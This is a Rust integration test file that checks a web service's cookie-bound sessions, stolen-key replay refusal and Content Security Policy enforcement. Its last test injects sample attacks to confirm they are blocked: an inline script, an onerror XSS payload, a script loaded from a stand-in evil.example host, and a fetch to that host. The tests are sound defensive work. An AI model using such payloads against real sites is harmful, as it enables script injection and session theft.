//! Cookies that no script reads: sessions that are bound to one; and what the page may do at all.

use anyhow::{Context, Result, ensure};
use relogin_tests::{
    browser::{Browser, View},
    res::Res,
    stage::Stage,
};
use serde_json::{Value, json};

use crate::{JANE, RELOGIN};

on!(both:
    key_stolen_without_its_cookie,
    logins_without_a_cookie_are_refused,
    a_gateway_gives_cookies_and_takes_them,
    a_session_whose_key_no_script_sees,
    key_cookies_on_many_connections_at_once,
);

on!(embedded_alone: the_page_breaks_no_rule_of_its_own);

/// What makes a browser's sessions bearer ones, so that the cookie alone stands between a stolen
/// key and the session.
const NO_CRYPTO: &str = "Object.defineProperty(crypto, 'subtle', { value: undefined });";

async fn key_stolen_without_its_cookie(stage: &mut Stage) -> Result<()> {
    stage.up(&["--refresh", "3s"]).await?;
    let front = stage.front().await?;
    let owner = stage.browser("owner").await?;
    owner.before_each_page(NO_CRYPTO).await?;
    owner.open(&front.url()).await?;
    owner.log_in("jane", "jane").await?;
    owner.counter_runs().await?;
    owner.watch_views().await?;
    ensure!(owner.run("return document.cookie").await? == "", "script sees the cookie");

    let loot = owner.stored().await?;
    assert!(loot["bound"] != true, "{loot}");
    let mut thief = stage.res().await?;
    let refused = thief.relogin(&loot["key"], loot["attempt"].as_str()).await?;
    assert_eq!(refused.code(), Some("session.invalidReloginKey"));
    stage.service_says("the audit", "outcome=cookie_mismatch").await?;
    let (mut other, _) =
        Res::bringing(&stage.gateway_url(), &[("Cookie", "relogin-session=AAAAAAAAAAAAAAAAAAAAAA")]).await?;
    assert_eq!(other.relogin(&loot["key"], None).await?.code(), Some("session.invalidReloginKey"));

    front.payload(front.mark(), RELOGIN).await?;
    owner.is_user(JANE).await?;
    assert_eq!(owner.views_seen().await?, Vec::<String>::new());
    // A reload, and all that the browser keeps comes along.
    owner.reload().await?;
    owner.is_user(JANE).await
}

async fn logins_without_a_cookie_are_refused(stage: &mut Stage) -> Result<()> {
    stage.up(&["--cookie", "require"]).await?;
    let mut bare = stage.res().await?;
    let credentials = json!({ "username": "jane", "password": "jane" });
    let refused = bare.request("auth.session.login", Some(credentials)).await?;
    assert_eq!(refused.code(), Some("session.cookieRequired"));

    // A browser has its cookie before its first connection, with the page.
    let front = stage.front().await?;
    let page = stage.page("owner", &front.url()).await?;
    page.log_in("jane", "jane").await?;
    page.counter_runs().await
}

async fn a_gateway_gives_cookies_and_takes_them(stage: &mut Stage) -> Result<()> {
    stage.up(&["--cookie", "require"]).await?;
    let (_, given) = Res::bringing(&stage.gateway_url(), &[]).await?;
    let [cookie] = given.as_slice() else { anyhow::bail!("{given:?}") };
    assert!(cookie.starts_with("relogin-session=") && cookie.ends_with("; HttpOnly; SameSite=Strict"), "{cookie}");
    let pair = cookie.split(';').next().context("a cookie has a value")?;

    let with_it = [("Cookie", pair)];
    let (mut owner, again) = Res::bringing(&stage.gateway_url(), &with_it).await?;
    assert!(again[0].starts_with(pair), "{again:?}");
    let key = owner.log_in("jane", "jane").await?["reloginKey"].take();
    assert_eq!(stage.res().await?.relogin(&key, None).await?.code(), Some("session.invalidReloginKey"));
    let (mut next, _) = Res::bringing(&stage.gateway_url(), &with_it).await?;
    assert_eq!(next.relogin(&key, None).await?.payload()?["generation"], 2);
    Ok(())
}

/// The key's cookie, if the browser has one.
async fn key_cookie(page: &Browser) -> Result<Option<String>> {
    let cookies = page.cookies().await?;
    Ok(cookies.into_iter().find(|(name, _)| name == "relogin-key-session").map(|(_, value)| value))
}

/// Waits until this many of the page's requests for its cookie were answered since it was loaded.
async fn exchanged(page: &Browser, method: &str, times: usize) -> Result<()> {
    let wait = format!(
        "return new Promise((done) => {{
            const answered = (entry) => entry.name.endsWith('/api/session/{method}') && entry.responseStatus === 204;
            const look = () => performance.getEntriesByType('resource').filter(answered).length >= {times} && done(true);
            new PerformanceObserver(look).observe({{ type: 'resource', buffered: true }});
        }})"
    );
    page.run(&wait).await.map(drop)
}

/// Log in, reload, refresh, a second tab, a restart, a thief, and log out: the key is in the
/// browser's cookie alone all the while.
async fn a_session_whose_key_no_script_sees(stage: &mut Stage) -> Result<()> {
    stage.up(&["--cookie-session", "--refresh", "3s", "--allow-origin", "null"]).await?;
    let front = stage.front().await?;
    let page = stage.page("owner", &front.url()).await?;
    page.log_in("jane", "jane").await?;
    exchanged(&page, "refresh", 1).await?;
    let first = key_cookie(&page).await?.context("the browser has no cookie with a key")?;
    ensure!(page.run("return document.cookie").await? == "", "script sees a cookie");
    let stored = page.stored().await?;
    let shown = stored["key"].as_str().context("storage has a text in the key's place")?;
    ensure!(shown.ends_with("aW5jb29raWU") && shown != first, "storage has a key");

    // Resumed by the request that opens the connection, and by nothing that script has.
    page.reload().await?;
    page.is_user(JANE).await?;
    page.counter_runs().await?;
    // Refreshed by HTTP.
    exchanged(&page, "refresh", 3).await?;
    let second = key_cookie(&page).await?.context("the cookie is gone")?;
    ensure!(first != second, "the key in the cookie was not replaced");
    let frames = format!("{:?}", front.frames(0));
    ensure!(!frames.contains(&first) && !frames.contains(&second), "a key was sent to script");

    let (other, _) = page.open_tab(&front.url()).await?;
    page.is_user(JANE).await?;
    stage.kill_service().await?;
    stage.start_service().await?;
    page.is_user(JANE).await?;
    page.reload().await?;
    page.is_user(JANE).await?;
    page.counter_runs().await?;

    // The key alone, and with the browser's other cookie from a page of another origin.
    let jar = page.cookies().await?;
    let pair = |name: &str| jar.iter().find(|(it, _)| it == name).map(|(name, value)| format!("{name}={value}"));
    let key = pair("relogin-key-session").context("the cookie is gone")?;
    let both = format!("{key}; {}", pair("relogin-session").context("the browser's cookie is gone")?);
    let here = format!("http://{}", stage.gateway_addr());
    let (mut thief, set) = Res::bringing(&stage.gateway_url(), &[("Cookie", &key), ("Origin", &here)]).await?;
    ensure!(thief.user().await?["id"].is_null() && !set.iter().any(|it| it.starts_with("relogin-key-")), "{set:?}");
    stage.service_says("the audit", "outcome=cookie_mismatch").await?;
    let (mut stranger, set) = Res::bringing(&stage.gateway_url(), &[("Cookie", &both), ("Origin", "null")]).await?;
    ensure!(stranger.user().await?["id"].is_null() && !set.iter().any(|it| it.starts_with("relogin-key-")), "{set:?}");
    page.is_user(JANE).await?;

    page.click("#logout").await?;
    exchanged(&page, "logout", 1).await?;
    assert_eq!(key_cookie(&page).await?, None);
    page.reload().await?;
    page.shows(View::Login).await?;
    page.turn_to(&other).await?;
    page.shows(View::Login).await
}

/// Tabs that open at once, responses that were lost: whatever comes of them, the browser's next
/// connection has its session.
async fn key_cookies_on_many_connections_at_once(stage: &mut Stage) -> Result<()> {
    stage.up(&["--cookie-session"]).await?;
    let front = stage.front().await?;
    let page = stage.page("owner", &front.url()).await?;
    page.log_in("jane", "jane").await?;
    exchanged(&page, "refresh", 1).await?;
    let cookies: Vec<_> = page.cookies().await?.into_iter().map(|(name, value)| format!("{name}={value}")).collect();
    let (cookies, here) = (cookies.join("; "), format!("http://{}", stage.gateway_addr()));
    let headers = [("Cookie", cookies.as_str()), ("Origin", here.as_str())];
    let url = stage.gateway_url();
    let tabs = (0..8).map(|_| Res::bringing(&url, &headers));
    for tab in futures_util::future::try_join_all(tabs).await? {
        let (mut tab, set) = tab;
        ensure!(set.iter().any(|cookie| cookie.starts_with("relogin-key-session=")), "{set:?}");
        assert_eq!(tab.user().await?["id"], 3);
    }
    // None of them has set anything in the browser.
    page.reload().await?;
    page.is_user(JANE).await
}

/// All rules that the page's head sets are kept by the page itself, from the first load over a
/// login to the next; and they hold.
async fn the_page_breaks_no_rule_of_its_own(stage: &mut Stage) -> Result<()> {
    const WATCH: &str = "
        window.broken = [];
        addEventListener('securitypolicyviolation', (event) => window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`));";
    stage.up(&[]).await?;
    let url = format!("http://{}/", stage.service_addr());
    let page = stage.browser("page").await?;
    page.before_each_page(WATCH).await?;
    page.open(&url).await?;
    page.log_in("jane", "jane").await?;
    page.counter_runs().await?;
    page.reload().await?;
    page.is_user(JANE).await?;
    page.counter_runs().await?;
    assert_eq!(page.run("return window.broken").await?, json!([]));
    assert_eq!(complaints(&page).await?, Vec::<String>::new());
    // All that the page loads is checked, and loaded once.
    const CHECKED: &str = "
        const links = [...document.querySelectorAll('script[src], link[href]')];
        const loads = performance.getEntriesByType('resource').filter((entry) => entry.name.endsWith('.wasm'));
        const unchecked = links.filter((link) => !link.integrity.startsWith('sha384-'));
        return [links.length >= 5, unchecked.map((link) => link.outerHTML), loads.length]";
    assert_eq!(page.run(CHECKED).await?, json!([true, [], 1]));

    for (what, attempt) in [
        (
            "an inline script",
            "const it = document.createElement('script'); it.textContent = 'window.pwned = 1'; document.body.append(it)",
        ),
        ("markup", "document.body.innerHTML = '<img src=x onerror=window.pwned=1>'"),
        (
            "a stranger's script",
            "const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it)",
        ),
        (
            "an inline style",
            "const it = document.createElement('style'); it.textContent = 'body { opacity: 0.5 }'; document.body.append(it)",
        ),
    ] {
        const SEEN: &str = "return [window.pwned ?? null, getComputedStyle(document.body).opacity]";
        let tried = page.run(&format!("try {{ {attempt} }} catch (error) {{}} {SEEN}")).await?;
        assert_eq!(tried, json!([null, "1"]), "{what}");
    }
    const ELSEWHERE: &str = "
        return fetch('https://evil.example/').then(() => 'let out', () => 'kept in')";
    assert_eq!(page.run(ELSEWHERE).await?, "kept in");
    let broken = page.run("return window.broken").await?;
    let broken: Vec<&str> = broken.as_array().context("a list")?.iter().filter_map(Value::as_str).collect();
    assert!(broken.iter().any(|rule| rule.starts_with("connect-src https://evil.example")), "{broken:?}");
    assert!(broken.iter().any(|rule| rule.starts_with("require-trusted-types-for")), "{broken:?}");
    Ok(())
}

/// What the browser's console says of rules that were broken.
async fn complaints(page: &Browser) -> Result<Vec<String>> {
    let words = ["Content Security Policy", "Permissions policy", "Permissions-Policy", "integrity", "preload"];
    let lines = page.console().await?;
    // What a preload's fetch is checked by is its own `integrity`; Chromium says that it does not
    // look at the link's.
    let is_known = |line: &str| line.contains("currently ignored for preload destinations");
    Ok(lines.into_iter().filter(|line| words.iter().any(|word| line.contains(word)) && !is_known(line)).collect())
}
